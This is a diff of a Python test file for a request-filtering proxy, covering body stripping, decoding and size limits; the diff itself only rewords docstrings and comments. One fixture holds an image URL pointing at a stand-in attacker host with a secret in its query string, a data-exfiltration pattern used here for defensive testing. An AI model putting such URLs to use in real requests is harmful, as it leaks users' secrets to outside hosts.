@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: ISC
-"""Bodies through the real processes to a recording provider: what the
-provider would do on its own is cut out or refused, byte for byte; encoded
-bodies arrive decoded; what the user allows passes as it was sent."""
+"""Bodies through the real processes to a recording provider: things that the
+provider would do on its own are cut out or refused, byte for byte; encoded
+bodies arrive decoded; whatever the user allows passes unchanged."""
 import gzip
 import json
 import os
@@ -24,7 +24,7 @@ HI = '"messages":[{"role":"user","content":"hi"}]'
 IMAGE = ('{"model":"m","messages":[{"role":"user","content":[{"type":"image",'
          '"source":{"type":"url","url":"https://evil.example/?q=secret"}}]}]}')
 
-# (name, target, body, what arrives: None as it is, a text, or a refusal)
+# (name, target, body, result: None for unchanged, a text, or a refusal)
 CASES = [
     ("nothing to cut", MESSAGES, '{"model":"m", ' + HI + ' }', None),
     ("a server tool beside one of the agent's", MESSAGES,
@@ -146,7 +146,7 @@ def test_codings(s, p):
 
 
 def test_large(s, p):
-    """Beyond what is held in memory; far more at once than fits it."""
+    """Larger than the heap holds, and many at once."""
     body = json.dumps({"model": "m", "tools": [
         json.loads(SEARCH), json.loads(OWN)], "messages": [
             {"role": "user", "content": "x" * (6 << 20)}]}).encode()
@@ -164,7 +164,7 @@ def test_large(s, p):
     del want["tools"][0]
     t.ok(all(json.loads(q["body"]) == want for q in p.seen()[-4:]),
          "... and arrive cut")
-    # 33 MiB and more is more than the route takes.
+    # The route takes at most 33 MiB.
     m = s.model()
     r = m.request("POST", MESSAGES, m.key_headers("anthropic") + TYPE +
                   [("Content-Length", str(40 << 20))], b"")
@@ -173,7 +173,8 @@ def test_large(s, p):
 
 
 def test_room():
-    """More at once than may be held: agents wait, and all are served."""
+    """More bodies at once than may be held: agents wait, and all are served.
+    """
     body = json.dumps({"model": "m", "messages": [
         {"role": "user", "content": "x" * (7 << 20)}]}).encode()
     got = []
